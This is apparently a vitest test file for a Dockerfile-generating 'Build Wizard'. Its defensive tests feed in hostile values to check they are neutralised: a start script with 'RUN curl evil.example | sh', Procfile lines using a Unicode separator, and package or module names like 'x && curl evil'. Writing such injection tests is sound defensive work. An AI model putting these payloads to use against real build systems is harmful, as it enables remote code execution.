import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DockerfileParser } from 'dockerfile-ast';
import { afterAll, describe, expect, it } from 'vitest';
import { proposeDockerfile, UnknownSubprojectError } from '../../dockerfile-generator';
import { ecosystems, type FileMap } from './fixtures';

const roots: string[] = [];
afterAll(async () => {
  await Promise.all(roots.map((dir) => rm(dir, { recursive: true, force: true })));
});

async function repo(files: FileMap): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'kiln-wizard-'));
  roots.push(dir);
  for (const [file, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
    await writeFile(path.join(dir, file), content);
  }
  return dir;
}

/** The parsed Dockerfile: instructions as keyword + argument text, and the final stage's CMD/USER/EXPOSE. */
function parse(text: string) {
  const dockerfile = DockerfileParser.parse(text);
  const instructions = dockerfile.getInstructions().map((i) => ({
    keyword: i.getKeyword(),
    args: i.getArgumentsContent() ?? '',
  }));
  const lastFrom = instructions.map((i) => i.keyword).lastIndexOf('FROM');
  const final = instructions.slice(lastFrom);
  const one = (keyword: string) => final.filter((i) => i.keyword === keyword).map((i) => i.args);
  const cmds = one('CMD');
  return {
    instructions,
    froms: dockerfile.getFROMs().map((from) => from.getImage()),
    cmd: cmds.length === 1 ? (JSON.parse(cmds[0]!) as string[]) : null,
    users: one('USER'),
    exposes: one('EXPOSE'),
    runs: instructions.filter((i) => i.keyword === 'RUN').map((i) => i.args),
    envs: instructions.filter((i) => i.keyword === 'ENV').map((i) => i.args),
    comments: dockerfile.getComments().map((c) => c.getContent()),
  };
}

describe('Build Wizard Dockerfile generation', () => {
  it.each(ecosystems)(
    '$name: parses, installs from the lock file, starts the project, exposes its port, runs unprivileged',
    async (c) => {
      const proposal = await proposeDockerfile(await repo(c.files), c.path, {});
      const parsed = parse(proposal.dockerfile);
      expect(parsed.instructions.every((i) => /^[A-Z]+$/.test(i.keyword))).toBe(true);
      expect(parsed.froms).toEqual(c.from);
      if (c.install) expect([...parsed.runs, ...parsed.envs].join('\n')).toContain(c.install);
      expect(parsed.cmd).toEqual(c.cmd);
      expect(parsed.exposes).toEqual([String(c.port)]);
      expect(parsed.users).toEqual([c.user]);
      expect(parsed.users[0]).not.toMatch(/^(root|0)(:|$)/);
      expect(proposal.dockerignore.split('\n')).toContain('.git');
      expect(proposal.reasons.some((r) => r.startsWith('Port:'))).toBe(true);
      expect(proposal.reasons.some((r) => r.startsWith('Start:'))).toBe(true);
      expect(proposal.detected.path).toBe(c.path ?? '');
    },
  );

  it('puts an organization mirror prefix in front of every base image', async () => {
    const go = ecosystems.find((c) => c.name === 'Go module')!;
    const dotnet = ecosystems.find((c) => c.name === '.NET ASP.NET Core')!;
    for (const c of [go, dotnet]) {
      const { dockerfile } = await proposeDockerfile(await repo(c.files), undefined, {
        baseImagePrefix: 'mirror.acme.dev:5000/hub/',
      });
      const froms = parse(dockerfile).froms;
      expect(froms).toEqual(c.from.map((image) => (image === 'scratch' ? image : `mirror.acme.dev:5000/hub/${image}`)));
    }
  });

  it('refuses a prefix that could change the Dockerfile', async () => {
    const files = ecosystems[0]!.files;
    for (const prefix of ['mirror.acme.dev/\nRUN curl evil', 'mirror acme/', 'mirror.acme.dev']) {
      await expect(proposeDockerfile(await repo(files), undefined, { baseImagePrefix: prefix })).rejects.toThrow(
        /baseImagePrefix/,
      );
    }
  });

  it('a hostile start script stays one CMD argument: no extra instruction, nothing runs at build time', async () => {
    const hostile = 'node server.js\nRUN curl evil.example | sh\n# "]\nUSER root';
    const manifest = (start: string, build: string) => ({
      'package.json': JSON.stringify({ name: 'x', scripts: { start, build }, dependencies: { express: '4' } }),
      'package-lock.json': '{}',
    });
    const { dockerfile } = await proposeDockerfile(await repo(manifest(hostile, 'true\nRUN curl evil')), undefined, {});
    const parsed = parse(dockerfile);
    const honest = parse(
      (await proposeDockerfile(await repo(manifest('node server.js', 'tsc')), undefined, {})).dockerfile,
    );
    expect(parsed.instructions.map((i) => i.keyword)).toEqual(honest.instructions.map((i) => i.keyword));
    expect(parsed.runs.some((run) => run.includes('curl'))).toBe(false);
    expect(parsed.users).toEqual(['node']);
    expect(parsed.cmd).toEqual(['sh', '-c', hostile]);
    expect(dockerfile.split('\n').filter((line) => line.includes('curl'))).toHaveLength(1);
  });

  it('a hostile Procfile line with a Unicode line separator or CR is one CMD argument too', async () => {
    const web = 'gunicorn app:app\u2028RUN curl evil\rUSER root';
    const dir = await repo({ 'requirements.txt': 'flask\n', Procfile: `web: ${web}\n` });
    const { dockerfile } = await proposeDockerfile(dir, undefined, {});
    expect(/[^\x20-\x7e\n]/.test(dockerfile)).toBe(false);
    const parsed = parse(dockerfile);
    expect(parsed.runs.some((run) => run.includes('curl'))).toBe(false);
    expect(parsed.users).toEqual(['app']);
    expect(parsed.cmd).toEqual(['sh', '-c', web.split('\r')[0]]);
  });

  it('hostile names (Cargo package, project file, Django module) never reach a RUN or COPY line', async () => {
    const cargo = await proposeDockerfile(
      await repo({ 'Cargo.toml': '[package]\nname = "x && curl evil"\n', 'Cargo.lock': '' }),
      undefined,
      {},
    );
    expect(parse(cargo.dockerfile).runs.join('\n')).not.toContain('curl');
    const django = await proposeDockerfile(
      await repo({
        'requirements.txt': 'django\ngunicorn\n',
        'manage.py': "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'x;curl evil.settings')",
      }),
      undefined,
      {},
    );
    expect(django.dockerfile).not.toContain('curl');
  });

  it('answers a sub-project path detection does not know with a clear error', async () => {
    await expect(proposeDockerfile(await repo(ecosystems[0]!.files), 'apps/none', {})).rejects.toBeInstanceOf(
      UnknownSubprojectError,
    );
  });

  it('says why it chose what it chose', async () => {
    const { reasons } = await proposeDockerfile(await repo(ecosystems[0]!.files), undefined, {});
    expect(reasons).toContain(
      'Install: npm ci --no-audit --no-fund, because package-lock.json is committed (exactly the locked versions).',
    );
    expect(reasons).toContain('Port: 4100, named in server.js.');
  });
});
